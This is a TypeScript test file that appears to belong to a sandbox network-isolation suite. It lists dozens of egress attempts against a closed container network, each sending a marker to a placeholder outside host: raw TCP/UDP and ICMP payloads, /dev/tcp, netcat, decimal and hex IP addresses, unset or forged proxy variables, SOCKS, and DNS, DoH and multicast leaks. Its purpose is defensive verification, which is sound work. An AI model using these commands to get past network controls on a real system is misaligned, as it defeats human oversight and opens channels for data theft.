import { attempts } from '../attempt.ts'

const numbers = (ports: readonly number[], row: (port: number) => string, say: (port: number) => string) =>
  Object.fromEntries(ports.map(port => [say(port), row(port)]))

/** Packets to an address outside, without asking the gate. */
export const direct = attempts(
  'direct, by address',
  'mark',
  { meets: 'closed network' },
  {
    ...numbers(
      [22, 25, 53, 80, 443, 853, 6667, 8080, 9418],
      p => `$T tcp $INTERNET ${p}`,
      p => `TCP to port ${p}`,
    ),
    ...numbers(
      [53, 123, 443, 514, 1194, 33434, 51820],
      p => `$T udp $INTERNET ${p}`,
      p => `UDP to port ${p}`,
    ),
    'ICMP echo': '$T icmp $INTERNET',
    'ping with a payload':
      'cp $(which ping) /tmp/p-$MARK; /tmp/p-$MARK -c 2 -W 1 -p $(printf %s "$MARK" | od -An -tx1 | tr -d " \\n") $INTERNET',
    'address as a decimal number': `curl -sm 3 --noproxy '*' http://$INTERNET_DECIMAL/$MARK`,
    'address in hex': `curl -sm 3 --noproxy '*' http://$INTERNET_HEX/$MARK`,
    'address in octal': `curl -sm 3 --noproxy '*' http://$INTERNET_OCTAL/$MARK`,
    "the shell's /dev/tcp": 'exec 3<>/dev/tcp/$INTERNET/80; echo "GET /$MARK" >&3; read -t 2 <&3',
    "the shell's /dev/udp": 'echo $MARK >/dev/udp/$INTERNET/53',
    netcat: 'echo "GET /$MARK" | nc -w 2 $INTERNET 80',
    'TLS hello with a name': 'timeout 3 openssl s_client -connect $INTERNET:443 -servername $MARK.example </dev/null',
    'git protocol': 'timeout 10 git clone -q git://$INTERNET/$MARK /tmp/clone-$MARK',
    TFTP: `curl -sm 3 --noproxy '*' tftp://$INTERNET/$MARK`,
    // The engine's rules drop these too, but not while it makes some other network: that nobody hears is what holds.
    'broadcast to everybody': {
      tries: '$T udp 255.255.255.255 9999',
      meets: 'no neighbours',
      given: ['closed network'],
    },
  },
)

/** The way out that the environment names, ignored or replaced. */
export const proxies = attempts(
  'proxy variables unset or forged',
  'mark',
  { meets: 'closed network' },
  {
    'environment cleared': 'env -i curl -sm 3 http://$INTERNET/$MARK',
    'variables unset': 'env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sm 3 http://$INTERNET/$MARK',
    'no_proxy for everything': `no_proxy='*' NO_PROXY='*' curl -sm 3 http://$INTERNET/$MARK`,
    'no_proxy for the address': `no_proxy=$INTERNET NO_PROXY=$INTERNET python3 -c "import os, urllib.request as u; u.urlopen('http://%(INTERNET)s/%(MARK)s' % os.environ, timeout=3)"`,
    'a proxy elsewhere': 'curl -sm 3 -x http://$INTERNET:8080 http://denied.test/$MARK',
    'a proxy elsewhere, by variable': 'http_proxy=http://$INTERNET:8080 curl -sm 3 http://denied.test/$MARK',
    'a proxy elsewhere, for TLS': 'https_proxy=http://$INTERNET:8080 curl -sm 3 https://$MARK.example/',
    'SOCKS4a elsewhere': 'curl -sm 3 --socks4a $INTERNET:8080 http://$MARK.example/',
    "curl's own file":
      'mkdir /tmp/$MARK && echo "noproxy = *" >/tmp/$MARK/.curlrc && HOME=/tmp/$MARK CURL_HOME=/tmp/$MARK curl -sm 3 http://$INTERNET/$MARK',
    'Python without proxies': `python3 -c "import os, urllib.request as u; u.build_opener(u.ProxyHandler({})).open('http://%(INTERNET)s/%(MARK)s' % os.environ, timeout=3)"`,
    'Node without the variable': `env -u NODE_USE_ENV_PROXY node -e "fetch('http://' + process.env.INTERNET + '/' + process.env.MARK).catch(() => {})"`,
    'git without its proxy': 'env -i PATH="$PATH" timeout 10 git -c http.proxy= ls-remote http://$INTERNET/$MARK',
  },
)

/** Names, and the queries that carry data out. */
export const names = [
  ...attempts(
    'DNS',
    'mark',
    { meets: 'closed network' },
    {
      'UDP 53 outside': '$T dns $INTERNET udp $MARK.example',
      'TCP 53 outside': '$T dns $INTERNET tcp $MARK.example',
      'a resolver on another port': '$T dns $INTERNET udp $MARK.example 5353',
      'DNS over HTTPS by address': `curl -sm 3 --noproxy '*' "http://$INTERNET:443/dns-query?name=$MARK"`,
      'DNS over TLS by address': '$T tcp $INTERNET 853',
    },
  ),
  ...attempts(
    'DNS',
    'mark',
    { meets: 'no resolver' },
    {
      "the engine's resolver, UDP": '$T dns 127.0.0.11 udp $MARK.example',
      "the engine's resolver, TCP": '$T dns 127.0.0.11 tcp $MARK.example',
      "the engine's resolver, by a long name":
        '$T dns 127.0.0.11 udp $MARK.$(printf a%.0s {1..60}).$(printf b%.0s {1..60}).example',
      "the engine's resolver, for a name of the inside": '$T dns 127.0.0.11 udp $MARK.gate',
    },
  ),
  ...attempts(
    'DNS',
    'mark',
    { meets: 'own resolv.conf', given: ['no resolver'] },
    {
      getaddrinfo: 'getent ahosts $MARK.example',
      "Python's resolver": `python3 -c "import os, socket; socket.gethostbyname(os.environ['MARK'] + '.example')"`,
      "Node's own resolver": `node -e "require('node:dns').resolveTxt(process.env.MARK + '.example', () => {})"`,
      'curl without the proxy': `curl -sm 3 --noproxy '*' http://$MARK.example/`,
      'ping by name': 'cp $(which ping) /tmp/p-$MARK; /tmp/p-$MARK -c 1 -W 1 $MARK.example',
      'git over ssh, by name':
        'GIT_SSH_COMMAND="ssh -o ConnectTimeout=2 -o BatchMode=yes" timeout 3 git ls-remote git@$MARK.example:x/y',
    },
  ),
  ...attempts(
    'DNS',
    'effect',
    { meets: 'no search domain', given: ['own resolv.conf'] },
    {
      'a single label with a search domain': 'grep -q search.test /etc/resolv.conf',
    },
  ),
  ...attempts(
    'DNS',
    'mark',
    { meets: 'no neighbours', given: ['closed network'] },
    {
      mDNS: '$T udp 224.0.0.251 5353',
      LLMNR: '$T udp 224.0.0.252 5355',
      SSDP: '$T udp 239.255.255.250 1900',
    },
  ),
  ...attempts(
    'DNS',
    'mark',
    { meets: 'allowlist' },
    {
      'DNS over HTTPS by a denied name': 'curl -sm 4 -x $PROXY "http://denied.test/dns-query?name=$MARK"',
    },
  ),
  ...attempts(
    'DNS',
    'mark',
    { meets: 'gate' },
    {
      "DNS over HTTPS by an allowed host's name": '$T hello $PROXY_HOST 8888 allowed.test:443 $MARK.denied.test',
    },
  ),
]
